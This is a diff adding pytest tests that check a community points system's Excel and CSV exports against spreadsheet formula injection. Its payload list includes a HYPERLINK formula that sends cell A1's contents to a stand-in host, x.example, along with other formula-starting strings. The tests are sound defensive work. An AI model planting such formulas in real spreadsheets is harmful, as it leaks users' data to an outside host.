@@ -1,10 +1,19 @@
 """Security rules that need no broker: token claims, formula-safe cells, JSON bombs, headers."""
 
+import io
+import re
+from datetime import UTC, datetime
+from pathlib import Path
+
 import jwt
 import pytest
+from openpyxl import load_workbook
 
 from gateway.auth import AuthError, TokenVerifier, mint
+from minqing import cells
 from minqing.cli import main
+from services.feedback import report
+from services.points import reports
 
 SECRET = "unit-test-secret-0123456789abcdef"
 
@@ -52,3 +61,74 @@ def test_over_long_claims_are_refused(claims):
 def test_claims_at_the_limits_are_accepted():
     principal = TokenVerifier(SECRET).verify(forged(sub="u" * 120, role="resident", communities=["m" * 40]))
     assert len(principal.sub) == 120
+
+
+# --- formula injection: every text cell of every export is text -------------------------------------
+EVIL = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def _texts(data: bytes):
+    book = load_workbook(io.BytesIO(data))
+    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+
+
+def _assert_no_formula(data: bytes, *expected: str):
+    found = _texts(data)
+    assert all(kind != "f" for _, kind in found), [v for v, kind in found if kind == "f"]
+    values = " ".join(str(v) for v, _ in found)
+    for text in expected:
+        assert text.strip() in values
+
+
+def test_the_monthly_report_writes_a_formula_like_community_name_as_text():
+    rate = {"value": 0.5, "numerator": 1, "denominator": 2}
+    overall = {"cases": 2, "by_channel": {"hotline": 2}, "by_handling_type": {"immediate": 2}}
+    overall |= {key: rate for key, *_ in report.RATES}
+    stats = {
+        "period": {"name": "2026-11", "from": "2026-11-01T00:00:00+08:00", "to": "2026-12-01T00:00:00+08:00"},
+        "overall": overall,
+        "groups": [{"group": EVIL[1], "cases": 2} | {key: rate for key, *_ in report.RATES}],
+    }
+    _assert_no_formula(report.build(EVIL[0], stats), "=HYPERLINK", "=1+1")
+
+
+def test_the_annual_file_writes_formula_like_names_and_reasons_as_text():
+    at = datetime(2026, 5, 1, 9, tzinfo=UTC)
+    member = {"name": EVIL[1], "community": "maxian", "branch": EVIL[4], "unit": EVIL[2], "status": "serving"}
+    file = {
+        "year": 2026,
+        "member": member | {"professions": [EVIL[3]], "specialties": [], "id": "m1", "phone": None},
+        "opening_balance": 0,
+        "closing_balance": 5,
+        "earned": 5,
+        "totals": {"award": 0, "correction": 5, "redemption": 0, "refund": 0, "expiry": 0},
+        "by_item": [{"name": EVIL[5], "count": 1, "quantity": 1.0, "points": 5}],
+        "activities": [{"title": EVIL[6], "starts_at": at, "place": EVIL[0], "status": "checked_out", "hours": 2}],
+        "redemptions": [{"reward": EVIL[1], "quantity": 1, "points": 1, "status": "reserved", "at": at}],
+        "entries": [
+            {"at": at, "kind": "correction", "points": 5, "balance_after": 5, "reason": EVIL[0], "rule": None,
+             "actor": EVIL[1]}
+        ],
+    }  # fmt: skip
+    _assert_no_formula(reports.xlsx(file, EVIL[0]), "=HYPERLINK", "=1+1", "@SUM(A1)")
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_csv_fields_that_start_like_a_formula_are_escaped(text):
+    line = cells.csv_bytes(["名称"], [[text, 3, None]]).decode("utf-8-sig").splitlines()[1]
+    assert line.lstrip('"').startswith("'"), line
+
+
+def test_every_export_writes_through_the_shared_helper():
+    """A new export that fills a workbook or a CSV by hand would bring formula injection back."""
+    root = Path(__file__).resolve().parents[2]
+    exporters = []
+    for path in [*root.glob("services/*/*.py"), *root.glob("gateway/*.py"), *root.glob("minqing/*.py")]:
+        source = path.read_text(encoding="utf-8")
+        if path.name == "cells.py" or "demo" in path.name or not re.search(r"Workbook\(\)|csv\.writer", source):
+            continue
+        exporters.append(path.name)
+        assert "cells." in source, f"{path} exports without minqing.cells"
+        by_hand = re.search(r"\w+\.append\(\[|\.cell\([^)]*value=|\[\"[A-Z]+\d+\"\] =|\.value =", source)
+        assert by_hand is None, f"{path} writes a cell by hand: {by_hand.group(0)}"
+    assert {"report.py", "reports.py"} <= set(exporters)
